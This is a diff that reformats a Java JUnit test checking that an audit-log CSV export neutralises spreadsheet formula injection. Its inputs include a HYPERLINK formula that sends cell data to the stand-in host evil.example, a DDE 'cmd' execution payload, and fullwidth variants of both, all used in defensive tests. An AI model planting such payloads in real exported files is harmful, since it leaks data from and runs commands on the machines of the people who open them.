@@ -9,25 +9,45 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /**
- * CSV injection (OWASP): a value a person typed into a form ends up in a cell of the audit
- * trail's CSV, which auditors open in Excel. Whatever a spreadsheet could take for the start of
- * a formula is prefixed with ' and shown as text.
+ * CSV injection (OWASP): a value a person typed into a form ends up in a cell of the audit trail's
+ * CSV, which auditors open in Excel. Whatever a spreadsheet could take for the start of a formula
+ * is prefixed with ' and shown as text.
  */
 class AuditExportTest {
 
   @ParameterizedTest
-  @ValueSource(strings = {
-      "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-      "\t=1+1", "\r=1+1", "\n=1+1",
-      "＝HYPERLINK(\"http://evil.example\")", "＋1", "－1", "＠SUM(A1)"})
+  @ValueSource(
+      strings = {
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝HYPERLINK(\"http://evil.example\")",
+        "＋1",
+        "－1",
+        "＠SUM(A1)"
+      })
   void aCellAFormulaCouldStartWithIsPrefixedWithAQuote(String typed) {
     String cell = AuditExport.cell(typed);
-    String unquoted = cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
+    String unquoted =
+        cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
     assertThat(unquoted).isEqualTo("'" + typed);
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"ศาลาประชาคมจังหวัด", "TH-60/2562-1", "25000", "a=b", "ok - fine", "'quoted", " =1"})
+  @ValueSource(
+      strings = {
+        "ศาลาประชาคมจังหวัด",
+        "TH-60/2562-1",
+        "25000",
+        "a=b",
+        "ok - fine",
+        "'quoted",
+        " =1"
+      })
   void otherCellsAreLeftAsTheyAre(String typed) {
     assertThat(AuditExport.cell(typed)).isEqualTo(typed);
   }
@@ -40,11 +60,39 @@ class AuditExportTest {
 
   @org.junit.jupiter.api.Test
   void theWholeFileGuardsEveryColumnAndTheHeader() {
-    AuditEntry entry = new AuditEntry(Instant.parse("2026-01-02T03:04:05Z"), AuditKind.values()[0], "=actor",
-        "\tTH-60/2562-1", "TH-60", "＝นครสวรรค์", 1L, "provincialPipeline", "@process", "pi-1", "Activity_X",
-        "+activity", "task-1", "-detail", Map.of("venue", "=cmd"));
-    String csv = AuditExport.csv(List.of(entry), Map.of("q", "x"), "=exporter", Instant.parse("2026-01-02T03:04:05Z"), false);
-    assertThat(csv).contains(",'=actor,").contains(",'＝นครสวรรค์,").contains(",'@process,").contains(",'+activity,")
-        .contains(",'-detail,").contains(",'=exporter").contains("\t").doesNotContain(",=").doesNotContain(",\t");
+    AuditEntry entry =
+        new AuditEntry(
+            Instant.parse("2026-01-02T03:04:05Z"),
+            AuditKind.values()[0],
+            "=actor",
+            "\tTH-60/2562-1",
+            "TH-60",
+            "＝นครสวรรค์",
+            1L,
+            "provincialPipeline",
+            "@process",
+            "pi-1",
+            "Activity_X",
+            "+activity",
+            "task-1",
+            "-detail",
+            Map.of("venue", "=cmd"));
+    String csv =
+        AuditExport.csv(
+            List.of(entry),
+            Map.of("q", "x"),
+            "=exporter",
+            Instant.parse("2026-01-02T03:04:05Z"),
+            false);
+    assertThat(csv)
+        .contains(",'=actor,")
+        .contains(",'＝นครสวรรค์,")
+        .contains(",'@process,")
+        .contains(",'+activity,")
+        .contains(",'-detail,")
+        .contains(",'=exporter")
+        .contains("\t")
+        .doesNotContain(",=")
+        .doesNotContain(",\t");
   }
 }
